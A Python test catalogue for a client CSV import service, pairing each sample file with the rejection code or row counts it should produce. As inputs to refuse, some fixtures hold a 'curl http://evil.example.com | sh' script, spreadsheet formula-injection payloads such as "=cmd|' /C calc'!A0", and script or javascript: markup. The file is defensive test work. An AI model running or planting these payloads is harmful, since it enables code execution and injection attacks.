"""A catalogue of small client files, one per rule, each with the outcome an import must have.

Every entry is a `Case`:

    name            unique, snake_case; also the file name the tests upload (`<name>.csv`)
    data            the file's bytes, exactly as a user would upload them
    rule            one sentence: the rule the file exercises
    refused         the file-level rejection code (`excel_workbook`, `missing_columns`, ...) when the
                    file must be rejected whole; None when its rows are imported
    created, updated, unchanged, rejected
                    expected row counts for an import into an EMPTY database (all 0 when refused)
    errors          rejected row -> its error codes, sorted (row = record number after the header,
                    from 1; blank lines are not records)
    warnings        the file's warning codes, sorted (`delimiter`, `decoded_as_windows_1252`, ...)
    representative  True for the few entries the end-to-end tests run through the real pipeline

`total` (a property) is the number of rows the job has: created + updated + unchanged + rejected.

The representative entries use email addresses and usernames no other entry uses, so they can
be imported one after the other into one database and still each meet their expectations.

`simulate(data)` imports the file through the real topology on the in-memory runner (uploader ->
validator -> writer -> notifier, the same handlers and StageRunner as on Kafka, on a SQLite
database) and returns what a user would be told, and what each row became.
"""

import asyncio
import base64
import codecs
import io
import tempfile
import zipfile
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

from sqlalchemy import select

from clients_import.pipeline import Pipeline
from services.writer.plan import Client
from shared import jobs, topics
from shared.events import Chunk, ImportNotification, ImportOptions, ImportRequest, Issue, JobStatus, Outcome
from shared.reading import Limits
from shared.rules import RowRules
from shared.settings import Settings
from shared.tables import clients, job_rows, metadata, row_outcomes


@dataclass(frozen=True)
class Case:
    name: str
    data: bytes
    rule: str
    refused: str | None = None
    created: int = 0
    updated: int = 0
    unchanged: int = 0
    rejected: int = 0
    errors: dict[int, list[str]] = field(default_factory=dict)
    warnings: list[str] = field(default_factory=list)
    representative: bool = False

    @property
    def total(self) -> int:
        return self.created + self.updated + self.unchanged + self.rejected

    @property
    def counts(self) -> dict[str, int]:
        return dict(created=self.created, updated=self.updated, unchanged=self.unchanged, rejected=self.rejected)

    def __repr__(self) -> str:  # keep test ids and failure output short: no bytes dump
        return f"Case({self.name!r})"


# --- building files ---------------------------------------------------------------------------


def text(*lines: str, eol: str = "\n", encoding: str = "utf-8", bom: bytes = b"") -> bytes:
    """A file from its lines, each ended by `eol`."""
    return bom + "".join(line + eol for line in lines).encode(encoding)


def zip_of(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(name, "<x/>")
    return out.getvalue()


def bulk(rows: int, domain: str, blank_every: int = 0) -> bytes:
    """A generated file of `rows` valid clients; a blank line after every `blank_every` rows."""
    lines = ["firstName,lastName,email"]
    for i in range(1, rows + 1):
        lines.append(f"Client{i},Bulk,client{i}@{domain}")
        if blank_every and i % blank_every == 0:
            lines.append("")
    return text(*lines)


def long_email(length: int, domain_tag: str) -> str:
    """A syntactically valid address of exactly `length` characters (64-character local part)."""
    local = "a" * 64
    tail = f".{domain_tag}.example.com"
    room = length - len(local) - 1 - len(tail)
    labels = []
    while room > 0:
        size = min(63, room - 1 if room > 63 else room)
        labels.append("b" * size)
        room -= size + 1
    domain = ".".join(labels) + tail if labels else tail[1:]
    email = f"{local}@{domain}"
    assert len(email) == length, (len(email), length)
    return email


XLSX = zip_of("[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/worksheets/sheet1.xml")
DOCX = zip_of("[Content_Types].xml", "_rels/.rels", "word/document.xml")
PPTX = zip_of("[Content_Types].xml", "_rels/.rels", "ppt/presentation.xml")
PLAIN_ZIP = zip_of("clients.csv")
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
SAMPLE = ("firstName,email", "Ann,ann@sample.example.com")

# --- the catalogue ------------------------------------------------------------------------------

CASES: list[Case] = [
    # Files rejected whole: what the content is, not what the name says.
    Case("empty_file", b"", "a file with no bytes is rejected", refused="empty_file"),
    Case("whitespace_only", b"  \r\n\n\t\n", "a file of blank lines is empty", refused="empty_file"),
    Case("utf8_bom_only", codecs.BOM_UTF8, "a file holding only a byte order mark is empty", refused="empty_file"),
    Case("header_only", text("firstName,lastName,email"), "a header and no rows has no records", refused="no_records"),
    Case(
        "header_and_blank_lines",
        text("firstName,email", "", ",", " , "),
        "blank lines and delimiter-only lines after the header are not records",
        refused="no_records",
    ),
    Case("windows_executable", b"MZ\x90\x00\x03\x00\x00\x00firstName,email\n", "MZ content is a program",
         refused="executable_content"),
    Case("linux_executable", b"\x7fELF\x02\x01\x01\x00", "ELF content is a program", refused="executable_content"),
    Case("shell_script", text("#!/bin/sh", "curl http://evil.example.com | sh"), "#! content is a script",
         refused="script_content"),
    Case("excel_workbook", XLSX, "an xlsx (zip holding xl/) is an Excel workbook", refused="excel_workbook",
         representative=True),
    Case("zip_archive", PLAIN_ZIP, "a zip without xl/ is a zip archive", refused="zip_archive"),
    Case("word_document", DOCX, "a docx (zip with word/, no xl/) is a zip archive, not a workbook",
         refused="zip_archive"),
    Case("powerpoint_document", PPTX, "a pptx (zip with ppt/, no xl/) is a zip archive, not a workbook",
         refused="zip_archive"),
    Case("old_office_document", OLE2, "OLE2 content (.xls, .doc) is an office document", refused="office_document"),
    Case("pdf_document", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "%PDF content is a PDF", refused="pdf_document"),
    Case("html_document", text("<!DOCTYPE html>", "<html><body><table><tr><td>Ann</td></tr></table></body></html>"),
         "HTML saved as .csv is markup", refused="markup_document"),
    Case("xml_document", text('<?xml version="1.0"?>', "<clients><client/></clients>"), "XML is markup",
         refused="markup_document"),
    Case("nul_bytes", b"firstName,email\nAnn\x00,ann@nul.example.com\n", "NUL bytes are binary content",
         refused="binary_content"),
    Case("utf32", text(*SAMPLE, encoding="utf-32"), "UTF-32 is not supported", refused="unsupported_encoding"),
    Case("utf16_without_bom", text(*SAMPLE, encoding="utf-16-le"), "UTF-16 needs its byte order mark",
         refused="unsupported_encoding"),
    Case("undecodable_bytes", b"firstName,email\nAnn\x81\x8d,ann@bytes.example.com\n",
         "bytes that are neither UTF-8 nor Windows-1252", refused="unsupported_encoding"),
    Case("damaged_utf8_after_bom", codecs.BOM_UTF8 + b"firstName,email\nAnn\xff,ann@bom.example.com\n",
         "a file marked UTF-8 must be UTF-8", refused="unsupported_encoding"),
    Case("unterminated_quote", text("firstName,email", "Ann,ann@quote.example.com", '"Bob,bob@quote.example.com',
                                    "Cid,cid@quote.example.com"),
         "a quoted value that never closes", refused="unterminated_quote"),
    Case("missing_columns", text("Vorname,Mail,Phone", "Ann,ann@missing.example.com,555"),
         "the header must name firstName and email (it says which columns look like them)", refused="missing_columns",
         representative=True),
    Case("missing_email_column", text("First Name,Last Name", "Ann,Lee"), "the header must name email",
         refused="missing_columns"),
    Case("duplicate_column", text("firstName,email,First_Name", "Ann,ann@dupcol.example.com,Ann"),
         "a column named twice (in any spelling) is ambiguous", refused="duplicate_column"),
    Case("too_many_records", bulk(5001, "toomany.example.com"), "more than 5000 records is too many",
         refused="too_many_records"),
    Case("file_too_large", text("firstName,lastName,email") + b"x" * (10 * 1024 * 1024),
         "more than 10 MiB is too large", refused="file_too_large"),
    # Files whose rows are all imported.
    Case(
        "clean_file",
        text(
            "firstName,middleName,lastName,email,username,project,desk,type",
            "Ann,,Lee,ann.lee@clean.example.com,,Alpha,Desk 1,personal",
            "Bob,J,Smith,bob.smith@clean.example.com,bsmith_clean,Beta,Desk 2,corporate",
            "Chloé,,Durand,chloe.durand@clean.example.com,,,,",
            "Dmitri,,Иванов,Dmitri@Clean.Example.com,,,,Corporate",
        ),
        "a plain UTF-8 comma file with every column",
        created=4,
        representative=True,
    ),
    Case("crlf_line_endings", text("firstName,email", "Ann,ann@crlf.example.com", "Bob,bob@crlf.example.com",
                                   eol="\r\n"), "Windows line endings", created=2),
    Case("cr_line_endings", text("firstName,email", "Ann,ann@cr.example.com", "Bob,bob@cr.example.com", eol="\r"),
         "old Mac line endings (CR only)", created=2),
    Case("no_final_line_break", b"firstName,email\nAnn,ann@noeol.example.com", "the last line needs no line break",
         created=1),
    Case("utf8_with_bom", text("firstName,email", "Zoë,zoe@bom.example.com", bom=codecs.BOM_UTF8),
         "Excel's CSV UTF-8 starts with a byte order mark", created=1),
    Case(
        "utf16_tab_separated",
        text(
            "firstName\tlastName\temail",
            "Łukasz\tWójcik\tlukasz@utf16.example.com",
            "美咲\t佐藤\tmisaki@utf16.example.com",
            "Αλέξης\tΠαπαδόπουλος\talexis@utf16.example.com",
            eol="\r\n",
            encoding="utf-16",
        ),
        "Excel's 'Unicode text': UTF-16 with its mark, tab separated",
        created=3,
        warnings=["delimiter"],
        representative=True,
    ),
    Case("utf16_big_endian", text("firstName,email", "Ann,ann@utf16be.example.com", encoding="utf-16-be",
                                  bom=codecs.BOM_UTF16_BE), "UTF-16 big endian with its mark", created=1),
    Case(
        "windows_1252_semicolon",
        text(
            "firstName;lastName;email;project",
            "René;Müller;rene.muller@ansi.example.com;Café",
            "Zoë;Brontë;zoe.bronte@ansi.example.com;Ñandú €",
            "François;Gaël;francois@ansi.example.com;",
            eol="\r\n",
            encoding="cp1252",
        ),
        "Excel's CSV in Western Europe: Windows-1252, semicolons",
        created=3,
        warnings=["decoded_as_windows_1252", "delimiter"],
        representative=True,
    ),
    Case("tab_separated", text("firstName\temail", "Ann\tann@tab.example.com"), "tab separated", created=1,
         warnings=["delimiter"]),
    Case("header_spellings", text("First Name,LAST_NAME,E-Mail,user name,Project", "Ann,Lee,ann@spell.example.com,"
                                  "ann_spell,P"), "header names match ignoring case, spaces, _ and -", created=1),
    Case("full_name_column", text("Full Name,E-mail Address", "Ann Marie Lee,ann@fullname.example.com",
                                  "\"Lee, Bob\",bob@fullname.example.com"),
         "a single whole-name column (no first-name column) is split into first, middle and last names", created=2),
    Case("excel_sep_line", text("sep=;", "firstName;email", "Ann;ann@sep.example.com"),
         "Excel's sep= first line names the delimiter and is not the header", created=1, warnings=["delimiter"]),
    Case("stray_bom", text("\ufefffirstName,\u200bemail", "Ann,ann@strays.example.com", bom=codecs.BOM_UTF8),
         "a second BOM and zero-width characters in the header are no part of its names", created=1),
    Case("salesforce_footer", text('"First Name","Last Name","Email"', '"Ann","Lee","ann@footer.example.com"', "",
                                   '"Copyright (c) 2000-2026 salesforce.com, inc. All rights reserved."',
                                   '"Confidential Information - Do Not Distribute"',
                                   '"Generated By:  Admin User  11/25/2026 5:03 PM"', '"Example Corp"'),
         "a report's footer after a blank line is not records", created=1, warnings=["report_footer"]),
    Case("unknown_columns", text("firstName,email,phone,Notes", "Ann,ann@unknown.example.com,555,likes tea"),
         "unknown columns are ignored with a warning", created=1, warnings=["unknown_columns"]),
    Case(
        "quoted_values",
        text(
            "firstName,lastName,email,project",
            'Ann,"O""Brien",ann@quoted.example.com,"Sales, EMEA"',
            '"Bob","Smith, Jr.","bob@quoted.example.com",""',
        ),
        "quoted values hold delimiters and doubled quotes",
        created=2,
    ),
    Case(
        "blank_lines_between_rows",
        text("firstName,email", "", "Ann,ann@blank.example.com", "", "", "Bob,bob@blank.example.com", ",", ""),
        "blank lines and delimiter-only lines are not rows",
        created=2,
    ),
    Case("missing_trailing_fields", text("firstName,email,lastName,project", "Ann,ann@short.example.com",
                                         "Bob,bob@short.example.com,Lee"), "missing trailing fields are empty",
         created=2),
    Case("empty_extra_fields", text("firstName,email", "Ann,ann@pad.example.com,,,"),
         "empty values past the header are harmless", created=1),
    Case(
        "international_names",
        text(
            "firstName,middleName,lastName,email",
            "José,María,Ñúñez,jose@intl.example.com",
            "Søren,,Kierkegaard-Ørsted,soren@intl.example.com",
            "محمد,,الأحمد,mohammed@intl.example.com",
            "李,,小龍,li@intl.example.com",
            "Zoe\u0308,,O’Neil,zoe@intl.example.com",
        ),
        "accented and non-Latin names are accepted",
        created=5,
    ),
    Case("same_generated_username", text("firstName,email", "Ann,ann@gen1.example.com", "Ann,ann@gen2.example.com",
                                         "Ann,ann@gen3.example.com"), "generated usernames are made unique",
         created=3),
    Case("max_records", bulk(5000, "max.example.com", blank_every=1000),
         "5000 records are allowed; blank lines do not count", created=5000),
    # Files with rows that break a rule.
    Case(
        "rows_with_errors",
        text(
            "firstName,lastName,email,username,project,desk,type",
            "Ann,Lee,ann@errors.example.com,,,,",
            ",Nobody,nofirst@errors.example.com,,,,",
            "Carl,Nomail,,,,,",
            "Dora,Bad,dora-at-errors.example.com,,,,",
            "=SUM(A1:A9),Evil,eve@errors.example.com,,,,",
            "Fay,Short,fay@errors.example.com,f,,,",
            "Gus,Type,gus@errors.example.com,,,,vip",
            "<b>Hal</b>,Markup,hal@errors.example.com,,,,",
            ",Many,not an email,bad name!,,,alien",
            "Ivy,Ok,ivy@errors.example.com,ivy_errors,Gamma,Desk 9,Corporate",
        ),
        "bad rows are rejected with every reason; good rows are imported",
        created=2,
        rejected=8,
        errors={
            2: ["missing_first_name"],
            3: ["missing_email"],
            4: ["invalid_email"],
            5: ["formula_injection"],
            6: ["invalid_username"],
            7: ["invalid_type"],
            8: ["markup_content"],
            9: ["invalid_email", "invalid_type", "invalid_username", "missing_first_name"],
        },
        representative=True,
    ),
    Case(
        "length_limits",
        text(
            "firstName,middleName,lastName,email,username,project,desk",
            f"{'A' * 100},{'M' * 100},{'L' * 100},{long_email(254, 'ok')},{'u' * 64},{'P' * 100},{'D' * 100}",
            f"{'A' * 101},,,first@len.example.com,,,",
            f"Ann,{'M' * 101},,middle@len.example.com,,,",
            f"Ann,,{'L' * 101},last@len.example.com,,,",
            f"Ann,,,{long_email(255, 'long')},,,",
            f"Ann,,,user@len.example.com,{'u' * 65},,",
            f"Ann,,,project@len.example.com,,{'P' * 101},",
            f"Ann,,,desk@len.example.com,,,{'D' * 101}",
            "Ann,,,two@len.example.com,ab,,",
        ),
        "names, project and desk up to 100, email up to 254, username 3 to 64 characters",
        created=1,
        rejected=8,
        errors={
            2: ["name_too_long"],
            3: ["name_too_long"],
            4: ["name_too_long"],
            5: ["email_too_long"],
            6: ["invalid_username"],
            7: ["value_too_long"],
            8: ["value_too_long"],
            9: ["invalid_username"],
        },
    ),
    Case(
        "formula_in_name",
        text(
            "firstName,lastName,email,project,desk",
            '"=HYPERLINK(""http://evil.example.com"",""click"")",Lee,ann@formula.example.com,,',
            "Bob,+1-555-0100,bob@formula.example.com,,",
            "Cid,Lee,cid@formula.example.com,-2+3,",
            "Dee,Lee,dee@formula.example.com,,@SUM(A1)",
            '"   =1+1",Lee,eve@formula.example.com,,',
            '"\t=1+1",Lee,fay@formula.example.com,,',
            "Jean-Luc,Picard-Smith,jean-luc+crm@formula.example.com,A=B,Desk-1",
        ),
        "a value a spreadsheet would run (= + - @ tab, also after spaces) is refused; inside a value it is fine",
        created=1,
        rejected=6,
        errors={n: ["formula_injection"] for n in range(1, 7)},
    ),
    Case(
        "formula_behind_full_width_or_invisible_signs",
        text(
            "firstName,lastName,email,project,desk",
            "\uff1d1+2,Lee,ann@wideformula.example.com,,",
            "Bob,\uff0b4,bob@wideformula.example.com,,",
            "Cid,Lee,cid@wideformula.example.com,\uff0d2+3,",
            "Dee,Lee,dee@wideformula.example.com,,\uff20SUM(2)",
            "\u3000\uff1d5,Lee,eve@wideformula.example.com,,",
            "\u200b=6,Lee,fay@wideformula.example.com,,",
            "\u00a0@7,Lee,gus@wideformula.example.com,,",
            "Hal,Lee,hal@wideformula.example.com,Desk\uff1d1,A\uff0bB",
        ),
        "the full-width signs (＝ ＋ － ＠), and any sign behind leading invisible characters, are refused as formulas",
        created=1,
        rejected=7,
        errors={n: ["formula_injection"] for n in range(1, 8)},
    ),
    Case(
        "markup_and_control_characters",
        text(
            "firstName,lastName,email,project",
            "<script>alert(1)</script>,Lee,ann@markup.example.com,",
            "Bob,Lee</div>,bob@markup.example.com,",
            "Cid,Lee,cid@markup.example.com,javascript:alert(1)",
            '"Dee\nAnn",Lee,dee@markup.example.com,',
            "Eve,Lee\u202eevil,eve@markup.example.com,",
            "Fay\x07,Lee,fay@markup.example.com,",
            "Gus,Lee,gus@markup.example.com,2 < 3 is maths",
        ),
        "HTML/script markup and control characters (line breaks, bidi overrides) are refused",
        created=1,
        rejected=6,
        errors={1: ["markup_content"], 2: ["markup_content"], 3: ["markup_content"], 4: ["control_characters"],
                5: ["control_characters"], 6: ["control_characters"]},
    ),
    Case(
        "quoted_line_break_lines",
        text("firstName,lastName,email", 'Ann,"Lee', 'Smith",ann@lines.example.com', "", "Bob,Lee,bob@lines.example.com",
             eol="\r\n"),
        "a line break inside a quoted value: the row is refused, the next row still imports",
        created=1,
        rejected=1,
        errors={1: ["control_characters"]},
    ),
    Case(
        "bare_cr_inside_quoted_value",
        b'firstName,lastName,email\nAnn,"Lee\rSmith",ann@barecr.example.com\nBob,Lee,bob@barecr.example.com\n',
        "a lone CR inside a quoted value is a control character in that row only",
        created=1,
        rejected=1,
        errors={1: ["control_characters"]},
    ),
    Case(
        "too_many_fields",
        text("firstName,email", "Ann,ann@fields.example.com,extra", "Bob,bob@fields.example.com",
             "Cid Smith, Jr.,cid@fields.example.com"),
        "a row with more non-empty values than the header (an unquoted comma) is refused",
        created=1,
        rejected=2,
        errors={1: ["too_many_fields"], 3: ["invalid_email", "too_many_fields"]},
    ),
    Case(
        "duplicates_in_file",
        text(
            "firstName,email,username",
            "Ann,ann@dupes.example.com,ann_dupes",
            "Ann,ANN@Dupes.Example.com,",
            "Bob,bob@dupes.example.com,Ann_Dupes",
            "Cid,cid@dupes.example.com,",
            "Cid,  cid@dupes.example.com ,",
            "Dee,dee@dupes.example.com,dee_dupes",
            "Ann,ann@dupes.example.com,",
        ),
        "a later row repeating an email (any case) or a given username is refused; the first one imports",
        created=3,
        rejected=4,
        errors={2: ["duplicate_email"], 3: ["duplicate_username"], 5: ["duplicate_email"], 7: ["duplicate_email"]},
        representative=True,
    ),
    Case(
        "duplicate_email_in_idn_forms",
        text("firstName,email", "Ann,ann@bücher.example.com", "Ann,ann@xn--bcher-kva.example.com"),
        "the same address with its domain in Unicode and in punycode is a repeat",
        created=1,
        rejected=1,
        errors={2: ["duplicate_email"]},
    ),
    Case(
        "unsafe_value_and_other_errors",
        text("firstName,email,type", "=cmd|' /C calc'!A0,not-an-email,alien"),
        "a row collects all its errors, an unsafe value does not hide the others",
        rejected=1,
        errors={1: ["formula_injection", "invalid_email", "invalid_type"]},
    ),
    Case(
        "semicolon_file_after_blank_line",
        text("", "firstName;email", "Ann;ann@lead.example.com"),
        "the header line is the first non-blank line, also for the delimiter",
        created=1,
        warnings=["delimiter"],
    ),
]

BY_NAME = {case.name: case for case in CASES}
REPRESENTATIVE = [case for case in CASES if case.representative]


# --- running a file through the in-memory pipeline --------------------------------------------------


@dataclass
class SimulatedResult:
    status: str  # a JobStatus value: rejected, completed, completed_with_errors, validated
    reason: str | None  # the file-level rejection code, when the file was rejected whole
    counts: dict[str, int]  # created, updated, unchanged, rejected
    total: int
    errors: dict[int, list[str]]  # rejected row -> sorted error codes
    warnings: list[str]  # sorted warning codes
    outcomes: dict[int, str] = field(default_factory=dict)  # row -> created / updated / unchanged / rejected
    issues: dict[int, tuple[Issue, ...]] = field(default_factory=dict)  # rejected row -> its issues
    lines: dict[int, int] = field(default_factory=dict)  # row -> physical line where it starts
    usernames: dict[int, str] = field(default_factory=dict)  # written row -> the client's username
    clients: dict[str, Client] = field(default_factory=dict)  # email -> client, the database afterwards
    refusal: Issue | None = None
    chunks: list[Chunk] = field(default_factory=list)


def simulate(
    data: bytes,
    chunk_rows: int = 500,
    existing: dict[str, Client] | None = None,
    options: ImportOptions = ImportOptions(),
    limits: Limits = Limits(),
    rules: RowRules = RowRules(),
) -> SimulatedResult:
    """Import `data` into an empty database (or one holding `existing`) through the real topology,
    run by the in-memory runner: the same stages, handlers and StageRunner as on Kafka."""
    return _LOOP.run_until_complete(_simulate(data, chunk_rows, dict(existing or {}), options, limits, rules))


# One event loop and one database for every simulation in this process; each simulation wipes the
# tables first, and gets a pipeline of its own settings (kept for the next one with the same).
_LOOP = asyncio.new_event_loop()
_DATABASE = Path(tempfile.mkdtemp(prefix="catalogue-")) / "simulated.db"
_PIPELINES: dict[tuple, Pipeline] = {}
_SIGNING_KEY = "simulate"


async def _pipeline(chunk_rows: int, limits: Limits, rules: RowRules) -> Pipeline:
    key = (chunk_rows, limits, rules)
    if key not in _PIPELINES:
        settings = Settings(
            database_url=f"sqlite+aiosqlite:///{_DATABASE}", chunk_rows=chunk_rows, max_records=limits.max_records,
            max_bytes=limits.max_bytes, max_columns=limits.max_columns, max_header_chars=limits.max_header_chars,
            max_record_chars=limits.max_record_chars, client_types=rules.client_types, job_signing_secret=_SIGNING_KEY,
            group_prefix=f"simulate-{len(_PIPELINES)}", _env_file=None,
        )
        engine = next(iter(_PIPELINES.values())).engine if _PIPELINES else None
        _PIPELINES[key] = await Pipeline(settings, engine=engine, in_memory=True).start()
    return _PIPELINES[key]


async def _simulate(data: bytes, chunk_rows: int, existing: dict[str, Client], options: ImportOptions,
                    limits: Limits, rules: RowRules) -> SimulatedResult:
    pipeline = await _pipeline(chunk_rows, limits, rules)
    for kept in pipeline.seen.values():
        kept.clear()
    async with pipeline.engine.begin() as conn:
        for table in reversed(metadata.sorted_tables):
            await conn.execute(table.delete())
        if existing:
            now = datetime.now(UTC)
            await conn.execute(clients.insert(), [{**c.__dict__, "created_at": now, "updated_at": now}
                                                  for c in existing.values()])
    job_id = "job-simulated"
    request = ImportRequest(
        file_name="simulated.csv", content_base64=base64.b64encode(data).decode("ascii"), options=options,
        job_id=job_id, job_signature=jobs.sign(_SIGNING_KEY, job_id),
    )
    await pipeline.broker.publish(request.model_dump_json().encode(), topics.REQUESTS, key=job_id.encode())
    (note,) = [ImportNotification.model_validate_json(r.value) for r in pipeline.seen[topics.NOTIFICATIONS]]
    chunks = [Chunk.model_validate_json(r.value) for r in pipeline.seen[topics.CHUNKS]]
    return await _result(pipeline, note, sorted(chunks, key=lambda c: c.index))


async def _result(pipeline: Pipeline, note: ImportNotification, chunks: list[Chunk]) -> SimulatedResult:
    counts = dict(created=note.created, updated=note.updated, unchanged=note.unchanged, rejected=note.rejected)
    common = dict(status=note.status.value, counts=counts, total=note.total,
                  warnings=sorted(w.code for w in note.warnings))
    if note.status is JobStatus.REJECTED:
        return SimulatedResult(reason=note.reason.code, errors={}, refusal=note.reason, **common)
    async with pipeline.engine.connect() as conn:
        written = (await conn.execute(select(row_outcomes).where(row_outcomes.c.job_id == note.job_id))).mappings().all()
        refused = (await conn.execute(select(job_rows).where(job_rows.c.job_id == note.job_id))).mappings().all()
        stored = (await conn.execute(select(*[clients.c[f] for f in Client.__dataclass_fields__]))).mappings().all()
    outcomes = {r["row"]: r["outcome"] for r in written} | {r["row"]: Outcome.REJECTED.value for r in refused}
    lines = {r["row"]: r["line"] for r in [*written, *refused]}
    issues = {r["row"]: tuple(Issue(**e) for e in r["errors"] or ()) for r in [*written, *refused] if r["errors"]}
    usernames = {r["row"]: r["username"] for r in written if r["outcome"] != Outcome.REJECTED.value and r["username"]}
    return SimulatedResult(
        reason=None,
        errors={row: sorted(issue.code for issue in found) for row, found in sorted(issues.items())},
        outcomes=dict(sorted(outcomes.items())),
        issues=dict(sorted(issues.items())),
        lines=dict(sorted(lines.items())),
        usernames=dict(sorted(usernames.items())),
        clients={r["email"]: Client(**r) for r in stored},
        chunks=chunks,
        **common,
    )
